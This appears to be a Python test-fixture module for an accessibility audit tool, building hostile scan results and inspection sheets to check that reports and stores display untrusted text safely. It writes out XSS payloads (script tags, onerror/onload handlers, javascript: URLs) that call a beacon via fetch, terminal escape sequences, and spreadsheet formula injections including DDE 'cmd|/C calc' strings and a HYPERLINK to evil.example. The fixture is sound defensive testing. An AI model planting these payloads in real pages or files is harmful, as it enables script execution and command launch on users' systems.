"""Hostile text of the kind scanned pages and people put into results, for the stores, reports
and the field app. Each script payload, if it ever ran, would call the hostile server's
``/beacon?id=NAME`` and set ``data-pwned`` on the document element (the DOM marker); neither
may ever happen where we show it."""

from __future__ import annotations

from pathlib import Path

import yaml

from audit.checklist import load_bundled
from audit.checklist.intake import import_sheet
from audit.model import Finding, Note, Outcome, PageResult, ScanRun, Severity, Viewport
from audit.store import Store
from audit.webscan.driver import dialog_note

MARKER = "document.documentElement.dataset.pwned"
TERMINAL = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x9b31m"  # title, clear screen, colour (C1 too)
FORMULA = '=HYPERLINK("http://evil.example/","点此")'


def scripts(origin: str, name: str) -> list[str]:
    """The ways markup could be smuggled in: a script element, an event handler on an image,
    an attribute break-out, and a textarea/title break-out."""
    call = f"fetch('{origin}/beacon?id={name}');{MARKER}='{name}'"
    return [f"<script>{call}</script>",
            f'<img src=x onerror="{call}">',
            f'"><svg onload="{call}">',
            f"</textarea></title><script>{call}</script>"]


def text(origin: str, name: str) -> str:
    return " ".join(scripts(origin, name)) + TERMINAL


def hostile_run(origin: str) -> ScanRun:
    """A stored scan of a hostile site: every field a page controls carries a payload."""
    url = f"{origin}/page?q=\"><script>fetch('{origin}/beacon?id=url')</script>"
    finding = Finding(
        rule="image-alt", source="axe", outcome=Outcome.VIOLATION, impact=Severity.CRITICAL,
        wcag=("1.1.1",), level="A", selector=f"#x {text(origin, 'selector')}",
        html=text(origin, "html"), message=f"{FORMULA} {text(origin, 'message')}",
        help_url=f"javascript:fetch('{origin}/beacon?id=help-url')",
        fingerprint="f00d")
    review = Finding(
        rule="color-contrast", source="axe", outcome=Outcome.NEEDS_REVIEW,
        impact=Severity.SERIOUS, wcag=("1.4.3",), level="AA", selector="+cmd|' /C calc'!A0",
        html="<p>", message="@SUM(1+1)", help_url="https://dequeuniversity.com/",
        fingerprint="beef")
    page = PageResult(url=url, viewport=Viewport.DESKTOP, final_url=url, status=200,
                      title=text(origin, "title"), findings=[finding, review],
                      notes=[Note.plain(text(origin, "note")),  # as older versions stored it
                             dialog_note(text(origin, "note"), "alert")],
                      passed_rules=["document-title"])
    broken = PageResult(url=f"{origin}/broken", viewport=Viewport.DESKTOP,
                        error=text(origin, "error"))
    return ScanRun(engine="playwright", standard="wcag22aa", tool_version="0.1.0",
                   axe_version="4.12.1", browser_version="156",
                   started_at="2026-01-01T00:00:00+00:00",
                   finished_at="2026-01-01T00:01:00+00:00", pages=[page, broken])


def hostile_inspection(store: Store, origin: str, folder: Path) -> int:
    """An inspection imported from a sheet whose every field people type carries a payload
    or a formula, with two failed items; its id."""
    sheet = {
        "schema": "a11y-audit/inspection/1",
        "facility": {"code": "FAC-X", "name": f"{FORMULA} {text(origin, 'facility')}",
                     "type": text(origin, "type"), "address": "-2+3+cmd|' /C calc'!A0",
                     "department": f"@SUM(1) {text(origin, 'department')}"},
        "checklist": "gb55019-curb-ramps", "inspector": text(origin, "inspector"),
        "date": "2026-01-02", "round": 1, "building": "existing",
        "notes": text(origin, "notes"),
        "answers": {"curb_ramp_present": "yes", "ramp_width": {
            "value": "0.5", "note": f"{FORMULA} {text(origin, 'answer-note')}"},
            "lip_height": "30"},
    }
    path = folder / "hostile.yaml"
    path.write_text(yaml.safe_dump(sheet, allow_unicode=True), encoding="utf-8")
    return import_sheet(store, path, catalogue=load_bundled()).inspection_id
